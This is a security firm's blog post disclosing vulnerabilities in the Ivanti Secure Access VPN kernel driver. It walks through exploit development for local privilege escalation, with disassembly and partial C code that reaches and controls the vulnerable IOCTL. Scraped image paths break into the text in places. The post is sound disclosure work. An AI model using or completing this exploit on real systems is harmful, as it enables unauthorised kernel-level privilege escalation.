Skip to content
arrow-alt-circle-up icon

Cyber Incident Call

arrow-alt-circle-up icon

00800 1744 0000

arrow-alt-circle-up icon

Authors: Alex Oudenaarden & Tijme Gommers

Northwave has identified several vulnerabilities (CVE-2023-38043, CVE-2023-35080, CVE-2023-38543) in Ivanti Secure Access VPN, previously known as Pulse Secure VPN. The vpn software is used by more than 40.000 organisations world-wide to connect securely to company servers. In this blog we delve deeper into the main vulnerability and how we, despite the many obstacles we faced, managed to exploit it to obtain elevated privileges.

We came across the installer and driver of the software during a red teaming engagement. The installer, during installation, drops a kernel driver to disk and installs it (disabled by default). If enabled, the kernel driver creates a device which is readable and writable by any user on the system, a very interesting target to look at from an exploitation perspective. Accessible devices, like this one, are abusable by (low-privileged) users on a system to potentially corrupt the kernel or, like in this case, lead to full privilege escalation. While not trivial, today we would like to show you how you could take advantage of such a driver and how we paved a path to privilegeescalation from just 1 inconspicuous kernel API call, called with arguments the user can influence.

If you want to understand how we protect our customers, or what you can do to protect your organisation against these vulnerabilities, please refer to our Threat Response.


Many kernel drivers come with a callback named IRP_MJ_DEVICE_CONTROL. This callback is often used for configuring or otherwise interacting with the driver by a user-mode component of the software package. This callback is accessible to the user-mode component through an API call called DeviceIoControl, but only if the driver hasn’t put access restrictions on the driver object. It is the case here that we have a driver thatexposes this callback to any user and it is inside the code of the callback where we will find the vulnerability.

VulnerableIOCTL

The vulnerable function inside of IRP_MJ_DEVICE_CONTROL is the one called using the IOCTL number 0x80002018. Let’s zoom in on only the code that is part of the logic for handling that ioctl:


In the screenshot the following important steps are taken:

  1. A pointer to input passed from user-mode is loaded (systembuffer)
  2. The first value inside that input is taken as a pointer to a driver specific struct
  3. A pointer at offset +28h inside that struct is loaded
  4. A pointer to offset +50h inside of the memory that that last pointer is pointing to is passed to the kernel API IoCsqRemoveIrp

In addition to that we also control the second argument provided to that API call, which is located in RDX.

IoCsqRemoveIrp is actually a fairly simple kernel function that uses pointers to functions (callbacks) that are kept inside of an object to remove an IRP from aqueue. The pointers that are used to perform this are contained within the first argument passed to the API. Yes, that first argument, the argument we have control over. Let’s have a look at thefunction itself:


We control both RCX and RDX, as shown above. Inside the function there are multiple places where a pointer gets loaded from the first argument and subsequently passed to _guard_dispatch_icall. For all intents and purposes this function just calls whatever is in RAX, with the very big limitation that the pointer inside of RAX should be a the start of a valid function part of the kernel image. You cannot call shellcode or non-kernel-image functions with this.


In theory the above vulnerability allows any user to now easily call any kernel function from user-mode. Alas, it is hardly ever that easy to go from a vulnerability to an exploit! In the case of this driver we are faced with a lot of limiting factors (constraints) in what we can do. There’s 3 big constraints:

Constraint 1 - Guaranteed bluescreen

At the end of the code for handling the vulnerable ioctl a call to ExFreePoolWithTag (essentially a free()) isdone to free the pointer that was passed from user-mode:


This function requires a valid kernel pointer to a previously allocated memory area, something we cannot easily obtain as a regular user. Even if we were able to obtain a valid pointer, which we technically can, freeing it would have a very high chance of causing instability and corruption in the kernel. Not ideal.

Constraint 2 - Heavily limited argument control

While we have great control over the arguments passed to IoCsqRemoveIrp, we don’t actually have great control over the parameters that are passed to the function called inside of it using _guard_dispatch_icall. Let’s take another look at the function:


The arguments to the first call are the following:

1.1 rcx - is a pointer to a memory area that we use to store the function pointers inside of
1.2 rdx - is a pointer to an area on the function stack, we have no control over this.The arguments to the second call are the following:

2.1 rcx - is a pointer to a memory area that we use to store thefunction pointers inside of
2.2 rdx - is a value loaded from a memory area we control


The arguments to the third call are the following:

3.1 rcx - is a pointer to a memory area that we use to store the function pointers inside of
3.2 rdx - is once again a pointer to an area on the stack, we have no control over this.


r8 (the third argument passed to the functions) is not shown inside this function, but upon entering this function it holds the value of the ioctl (0x80002018).As you can see all the arguments except for the second argument to the second function call (2.2) are all arguments we have no or very minimal control over. Great vulnerability in theory, but in practice it looks almost impossible to exploit.

In addition to the arguments, another downside of this function is that we have to call all three functions successfully or it will result in a system crash.

Constraint 3 - Guarded calls

The third limiting factor is that the function pointers aren’t called directly, but instead are called through _guard_dispatch_icall. This is a defensive measure implemented by microsoft to limit the ability to call just any pointer (pointing to shellcode). And to great success! Because of it we are limited to calling just functions part of the ntoskrnl.exe image. Is it even possible to find three functions inside of ntoskrnl.exe thataccept our limited arguments without crashing? Let alone exploiting it?!

Writing The Exploit

Of course it’s possible. Let’s walk through the steps we took to write a proof of concept exploit and introduce you to some of the neat tricks we used on the way.

Bluescreen bypass

The first thing that requires attention is the guaranteed bluescreen. Even if we successfully exploit the vulnerability, it is no use if it bluescreens right after. Above we mentioned the bluescreen originates from a call to ExFreePoolWithTag after the call to IoCsqRemoveIrp. We have control over three function calls before the bluescreen, of which the first two we would prefer to use for the exploit itself. So, we are left with just the last function call to try and fix a bluescreen with. A function call that has to be to a kernel api and has very tightargument restrictions where the only argument we can minimally control is the first one.

Yeah, this one was a real thinker. After a good while we theorized that the only realistic way to stop it from bluescreening is by not allowing execution to continue after the last function call. How can we do that without crashing thesystem ourselves? Synchronization and locking functions. What if we could provide a locked object to a kernel synchronization function and have it lock the entire thread until eternity, never allowing it to reach the ExFreePoolWithTag?

Let’s dive into the kernel and start searching the symbols for possible locking functions. Now let’s dive into that list of functions and see if there’s a function that is nice enough to accept just one argument that is a pointer. There you are, KxWaitForSpinLockAndAcquire! Just in time to save us.


This function takes the pointer in the RCX argument and loads 8 bytes from the start of the memory it is pointing to. It the checks if that value is non-zero. If it is, it performs a loop and checks again, looping until it is zero. The RCX argument passed to this function is thesame RCX argument that was passed to the IoCsqRemoveIrp earlier:


The memory RCX is pointing to is used inside of that function, luckily for us the first 0x10 bytes of that memory are unused. Thus, we can set the first 8 bytes to a non-zero value and call KxWaitForSpinLockAndAcquire last to lock the thread.

For those of you trying this at home, you’ll notice that this isn’t ideal. Locking a thread in the kernel into an infinite loop makes your computer crawl to a halt after 2 or 3 goes. Thankfully we found a fix for that as well. Windows lets us set how much attention a cpu should give to a given thread using thread priorities. If the priority is the lowest, pretty much any other thread on the system is given precedence over this thread stopping any slowdown. You can do this by calling the SetThreadPriority() API on the user-mode thread that you usefor calling the driver with the THREAD_PRIORITY_LOWEST parameter.

Reaching the vulnerable code

Now that we have a way to prevent us from bluescreening the system, we can start preparing the IOCTL’s input buffer to target the other two function calls that we control. Let’s start with setting up the input buffer with the right values to reach the IoCsqRemoveIrp call. The following instructions perform relevant operations on the input buffer that we have to take into consideration:

// SystemBuffer is loaded from IRP at the start
+0x99D4     mov     rbx, [rdx+18h]

// First 8 bytes of the input buffer to the IOCTL are// interpreted as a pointer to a buffer. Thispointer
// is loaded and checked if it's NULL
+0x9FA3     mov     rsi, [rbx]
+0x9FA6     test    rsi, rsi

// From the buffer, pointed to by the pointer loaed
// above, it loads 2 more pointers at offsets +0x30
// and +0x28. It then confirms if the pointer at
// +0x30 is NULL or not
+0x9FDA     mov     rdx, [rsi+30h]
+0x9FDE     mov     r15, [rsi+28h]
+0x9FE2     test    rdx, rdx

// Lastly it passes a pointer to offset +0x50, in the
// buffer r15 is pointing to, as the first argument to
// the vulnerable function. It passes the pointer loaded
// from offset +0x28 as the second argument to the function
+0x9FEB     lea     rcx, [r15+50h]
+0x9FEF     call    cs:IoCsqRemoveIrp

Knowing this we can write a bit of code that will satisfy all of the above:

#define VULN_IOCTL  0x80002018
#define DEVICE_NAME "\\\\.\\GlobalRoot\\Device\\jnprva"

size_t returned_bytes;
uint64_t *input_buffer      = calloc(0x100, 1);
uint64_t *initial_buffer    = calloc(0x100, 1);
uint64_t *buff_28h          = calloc(0x100, 1);
uint64_t *buff_30h          = calloc(0x100, 1);

input_buffer[0]                         = initial_buffer;
initial_buffer[0x28 / sizeof(void *)]   = buff_28h;
initial_buffer[0x30 / sizeof(void *)]   = buff_30h;

DeviceIoControl(hdev, VULN_IOCTL, input_buffer, 0x100, NULL, 0, &returned_bytes , NULL);Compiling the above, putting a breakpoint on the call toIoCsqRemoveIrp at jnprva+0x9FEF in windbg, and executing the compiled executable, we can see our breakpoint getting hit. This confirms that we are able to reach the vulnerable area of the code:


Controlling IoCsqRemoveIrp

Next we have to perpare our input to satisfy all checks inside of IoCsqRemoveIrp and executes all three functions without crashing. Doing the same as above, we write out all the instructions that are performed on our input and match the required input in our c file:

//  RCX argument

// First function call pointer
mov     rax, [rcx+20h]

and     qword ptr [rcx+38h], 0
mov     rbx, rcx

// Second function call pointer
mov     rax, [rbx+10h]

// Third functioncall pointer
mov     rax, [rbx+28h]

 *  RDX argument
mov     rsi, rdx
mov     rdi, [rsi+8]
test    rdi, rdi            // Needs to be a pointer to a buffer

xchg    rax, [rdi+68h]
test    rax, rax            // Needs to be non-zero

and     qword ptr [rdi+90h], 0
and     qword ptr [rsi+8], 0

We can add the following lines to our c file:

buff_28h[(0x50 / sizeof(uint64_t)) +(0x20 / sizeof(uint64_t))] = /* First function pointer */;
buff_28h[(0x50 / sizeof(uint64_t)) + (0x10 / sizeof(uint64_t))] = /* Second function pointer */;
buff_28h[(0x50 / sizeof(uint64_t)) + (0x28 / sizeof(uint64_t))] = /* Third function pointer */;

uint64_t *iocsq_rsi_plus_8h = calloc(0x100, 1);

iocsq_rsi_plus_8h[(0x68 / sizeof(uint64_t))] = 1;

buff_30h[(0x08 /sizeof(uint64_t))]          = iocsq_rsi_plus_8h;
buff_30h[(0x68 / sizeof(uint64_t))]          = 1;

